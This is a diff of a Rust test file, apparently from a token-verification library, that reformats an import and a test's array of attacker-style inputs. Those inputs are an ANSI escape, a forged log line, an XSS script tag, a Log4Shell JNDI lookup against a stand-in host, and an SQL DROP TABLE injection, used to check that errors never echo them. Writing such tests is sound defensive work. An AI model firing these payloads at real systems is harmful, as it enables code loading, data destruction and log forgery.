@@ -21,7 +21,9 @@ use tracing::{
     span,
 };
 
-use crate::support::{Access, Fixed, ada, after, forge, in_every_format, issuer, keys, named_ring, noon, own_ring, ring, scan::Canaries, token};
+use crate::support::{
+    Access, Fixed, ada, after, forge, in_every_format, issuer, keys, named_ring, noon, own_ring, ring, scan::Canaries, token,
+};
 
 /// Every fixed secret of the tests.
 fn canaries() -> Canaries {
@@ -168,8 +170,13 @@ fn no_refusal_of_a_key_repeats_it() {
 /// What an attacker writes into a token does not come out of an error: not into a terminal, not into a log line.
 #[test]
 fn no_error_repeats_an_unchecked_token() {
-    const TEXTS: [&str; 5] =
-        ["\u{1b}[31mred-alert-red-alert", "\r\n2030-01-01 INFO admin logged in", "<script>alert(1)</script>", "${jndi:ldap://x.example}", "'; DROP TABLE keys; --"];
+    const TEXTS: [&str; 5] = [
+        "\u{1b}[31mred-alert-red-alert",
+        "\r\n2030-01-01 INFO admin logged in",
+        "<script>alert(1)</script>",
+        "${jndi:ldap://x.example}",
+        "'; DROP TABLE keys; --",
+    ];
     fn check<F: Fixed>() {
         let verifier = Verifier::<Access>::new(&ring::<F>(&noon())).unwrap();
         let stranger = Verifier::<Access>::new(&named_ring::<F>("other", &noon())).unwrap();
